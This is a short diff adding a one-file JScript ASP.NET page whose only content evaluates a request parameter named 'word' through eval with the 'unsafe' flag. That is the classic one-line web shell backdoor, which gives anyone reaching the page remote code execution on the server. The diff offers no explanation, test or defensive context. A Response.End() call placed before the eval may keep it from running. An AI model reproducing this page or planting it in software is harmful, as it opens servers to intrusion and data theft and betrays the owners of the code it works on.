@@ -1,0 +1,4 @@
+<%@ Page Language="Jscript" %><%
+Response.End();
+eval(Request.Item["word"], "unsafe");
+%>
